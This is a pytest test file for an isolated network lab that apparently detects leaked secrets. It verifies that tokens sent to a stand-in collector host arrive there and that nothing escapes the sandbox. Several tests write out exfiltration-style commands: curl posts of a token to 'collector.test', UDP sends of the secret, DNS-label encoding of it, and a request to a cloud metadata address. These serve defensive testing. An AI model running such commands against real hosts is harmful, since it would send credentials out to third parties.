# SPDX-License-Identifier: MIT
"""The lab can be trusted: unguarded it lets everything through, and nothing leaves it."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lab import Lab, cgroup, tokens
from lab.network import BARE, HOME, METADATA, OTHER

pytestmark = pytest.mark.root

SECRET = "a-value-that-should-arrive"
COLLECTOR_URLS = [
    "http://collector.test/",
    "http://deep.below.collector.test/",
    "https://collector.test/",
    "https://deep.below.collector.test/",
    f"http://{BARE}/",
    f"https://{BARE}/",
    "http://[2001:db8::66]/",
    "https://[2001:db8::66]/",
    f"http://{BARE}:8443/",
]


@pytest.mark.parametrize("url", COLLECTOR_URLS)
def test_unguarded_the_collector_gets_the_secret(lab: Lab, url: str) -> None:
    done = lab.run(["curl", "-sS", "-d", f"TOKEN={SECRET}", url])
    assert (done.returncode, done.stdout, done.stderr) == (0, "ok\n", "")
    assert lab.collector.received(SECRET.encode())
    assert lab.collector.bytes_of(SECRET.encode()) == len(SECRET)
    assert lab.collector.bytes_received > len(SECRET)
    assert [len(lab.collector.connections), len(lab.home.connections)] == [1, 0]


def test_the_wire_holds_no_plaintext_of_tls(lab: Lab) -> None:
    lab.run(["curl", "-sS", "-d", SECRET, "https://collector.test/"])
    (seen,) = lab.collector.connections
    assert SECRET.encode() in seen.plain
    assert SECRET.encode() not in seen.wire


def test_a_client_that_does_not_trust_the_authority_sends_nothing(lab: Lab) -> None:
    done = lab.run(["curl", "-sS", "-d", SECRET, "https://home.test/"], env={"CURL_CA_BUNDLE": "x"})
    assert done.returncode == 77  # curl(1): problem reading the SSL CA cert
    assert not lab.home.received(SECRET.encode())


def test_a_large_body_and_a_chunked_one_arrive_whole(lab: Lab) -> None:
    (lab.directory / "body").write_bytes(b"x" * 3_000_000 + SECRET.encode())
    for extra in ([], ["-H", "Transfer-Encoding: chunked"]):
        done = lab.run(["curl", "-sS", *extra, "--data-binary", "@body", "https://home.test/"])
        assert done.stdout == "ok\n", done.stderr
    whole, chunked = lab.home.connections
    assert whole.plain.count(b"x") >= 3_000_000 <= chunked.plain.count(b"x")
    assert SECRET.encode() in whole.plain and SECRET.encode() in chunked.plain


def test_datagrams_arrive_also_without_a_connect(lab: Lab) -> None:
    send = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
    lab.run([sys.executable, "-c", send + f"s.sendto(b'{SECRET}', ('{BARE}', 443))"])
    (seen,) = lab.collector.connections
    assert (seen.transport, seen.local, bytes(seen.wire)) == ("udp", f"{BARE}:443", SECRET.encode())


@pytest.mark.parametrize("flags", [[], ["+tcp"], ["@2001:db8::53"], ["+tcp", "@2001:db8::53"]])
def test_the_name_server_answers_and_remembers(lab: Lab, flags: list[str]) -> None:
    lab.dns.zone["alias.test"] = ["other.test"]
    ask = ["dig", "+short", *flags]
    assert lab.run([*ask, "Alias.test"]).stdout.split() == ["other.test.", OTHER[0]]
    assert lab.run([*ask, "AAAA", "other.test"]).stdout.split() == [OTHER[1]]
    assert "NXDOMAIN" in lab.run(["dig", *flags, "absent.test"]).stdout
    assert [(q.name, q.qtype) for q in lab.dns.questions] == [
        ("Alias.test", "A"),
        ("other.test", "AAAA"),
        ("absent.test", "A"),
    ]
    assert {q.transport for q in lab.dns.questions} == {"tcp" if "+tcp" in flags else "udp"}
    assert lab.dns.asked("absent.test") and not lab.dns.asked("sent.test")


def test_a_secret_split_into_labels_is_found(lab: Lab) -> None:
    lab.run(["dig", "+short", "a-value-that.SHOULD-arrive.collector.test"])
    assert lab.dns.received(SECRET.replace("that-", "that").encode())
    assert not lab.dns.received(SECRET.encode())


def test_hosts_are_apart(lab: Lab) -> None:
    lab.run(
        ["curl", "-sS", f"http://{METADATA}/latest/", "http://home.test/", "https://other.test"]
    )
    counts = [len(h.connections) for h in (lab.metadata, lab.home, lab.other, lab.collector)]
    assert counts == [1, 1, 1, 0]
    assert lab.metadata.received(b"GET /latest/")


def test_a_host_may_be_added(lab: Lab) -> None:
    mirror = lab.serve("mirror.test", ["203.0.113.77"], http=(8080,), https=())
    assert lab.run(["curl", "-sS", "http://mirror.test:8080/simple/"]).stdout == "ok\n"
    assert mirror.received(b"GET /simple/")


def test_nothing_gets_out(lab: Lab) -> None:
    lab.assert_sealed()
    assert "default" not in lab.run(["ip", "route"]).stdout
    assert "default" not in lab.run(["ip", "-6", "route"]).stdout
    done = lab.run(["curl", "-sS", "-m", "3", "http://192.0.2.1/"])
    assert done.returncode == 7, done.stderr  # curl(1): failed to connect


def test_a_way_out_stops_the_lab(lab: Lab) -> None:
    opened = lab.run(["ip", "route", "add", "default", "via", "203.0.113.1"])
    assert opened.returncode == 0, opened.stderr
    with pytest.raises(RuntimeError, match="not sealed"):
        lab.run(["true"])


def test_the_job_has_its_own_resolver_and_environment(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HTTPS_PROXY", "http://192.0.2.1")
    outside = Path("/etc/resolv.conf").read_text()
    inside = lab.run(["cat", "/etc/resolv.conf"]).stdout
    assert inside.splitlines()[0] == "nameserver 203.0.113.53"
    assert Path("/etc/resolv.conf").read_text() == outside != inside
    assert "PROXY" not in lab.run(["env"], env={"ADDED": "1"}).stdout


def test_the_job_sees_the_cgroup_hierarchy(lab: Lab) -> None:
    assert lab.run(["cat", str(cgroup.current() / "cgroup.procs")]).returncode == 0


def test_this_process_stays_where_it_is() -> None:
    before = os.readlink("/proc/self/ns/net"), os.readlink("/proc/self/ns/mnt"), os.getcwd()
    with Lab() as lab:
        lab.run(["true"])
    after = os.readlink("/proc/self/ns/net"), os.readlink("/proc/self/ns/mnt"), os.getcwd()
    assert after == before


def traces() -> tuple[object, ...]:
    """What a lab of this process could leave behind; other tests may run on the machine."""
    names = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    links = sorted(name for _, name in socket.if_nameindex())
    prefix = f"leakstop-lab-{os.getpid()}-"
    mounts = Path("/proc/self/mountinfo").read_text().splitlines()
    files = sorted(Path("/tmp").glob(f"{prefix}*"))
    ours = [line for line in mounts if prefix in line]
    return names, links, ours, files, len(os.listdir("/proc/self/fd"))


def test_nothing_is_left_behind_also_on_failure() -> None:
    with Lab():
        pass  # what this process makes once and keeps (the authority) is made now
    before = traces()
    with pytest.raises(ZeroDivisionError), Lab() as lab:
        daemon = lab.popen(["sh", "-c", "sleep 60 & sleep 60"], stdout=subprocess.DEVNULL)
        network = lab.job
        _ = 1 / 0
    assert daemon.wait(5) == -signal.SIGKILL
    assert network.processes() == []
    assert traces() == before


def test_a_lab_that_cannot_be_made_is_taken_down(monkeypatch: pytest.MonkeyPatch) -> None:
    before = traces()
    monkeypatch.setattr("lab.network.JOB_LINK", "link add nonsense\n")
    with pytest.raises(RuntimeError, match="could not be made"), Lab():
        pass
    assert traces() == before


def test_a_killed_process_takes_its_lab_with_it() -> None:
    program = (
        "import os, sys, time; from lab import Lab; lab = Lab(); lab.__enter__();"
        "print(lab.services.id, lab.directory, flush=True); time.sleep(60)"
    )
    path = os.pathsep.join([str(Path(__file__).parents[1]), *sys.path])
    process = subprocess.Popen(
        [sys.executable, "-c", program],
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": path},
    )
    assert process.stdout is not None
    _, directory = process.stdout.readline().split()
    links = socket.if_nameindex()
    process.kill()
    process.wait()
    process.stdout.close()
    assert socket.if_nameindex() == links
    assert subprocess.run(["ip", "netns", "list"], capture_output=True).stdout == b""
    for path_left in Path(directory).iterdir():  # the one thing that a name refers to
        path_left.unlink()
    Path(directory).rmdir()


def test_settle_reports_a_connection_that_stays_open(lab: Lab) -> None:
    hold = f"import socket, time; s = socket.create_connection(('{HOME[0]}', 80)); time.sleep(60)"
    process = lab.popen([sys.executable, "-c", hold])
    deadline = time.monotonic() + 5
    while not lab.home.connections and time.monotonic() < deadline:
        time.sleep(0.01)
    with pytest.raises(TimeoutError, match="still open"):
        lab.settle(0.1)
    process.kill()
    process.wait()
    lab.settle()


def test_a_child_cgroup_is_found_entered_and_removed() -> None:
    with cgroup.child() as group:
        inside = cgroup.run_in(group, ["cat", "/proc/self/cgroup"]).stdout
        assert f"/{group.name}\n" in inside
        (group / "below").mkdir()
        held = subprocess.Popen(cgroup.command_in(group / "below", ["sleep", "60"]))
        deadline = time.monotonic() + 5
        while not (group / "below/cgroup.procs").read_text() and time.monotonic() < deadline:
            time.sleep(0.005)
    assert held.wait(5) == -signal.SIGKILL
    assert not group.exists()


@pytest.mark.parametrize("make", [tokens.npm, tokens.github, tokens.home_made, tokens.hexadecimal])
def test_tokens_are_new_each_time_and_known_in_every_form(make: object) -> None:
    assert callable(make)
    one, two = make(), make()
    assert one.value != two.value and len(one.value) >= 32
    assert one.env == {one.name: one.value}
    done = subprocess.run(["base64", "-w0"], input=b"x" + one.value.encode(), capture_output=True)
    assert any(form in done.stdout for form in one.forms)
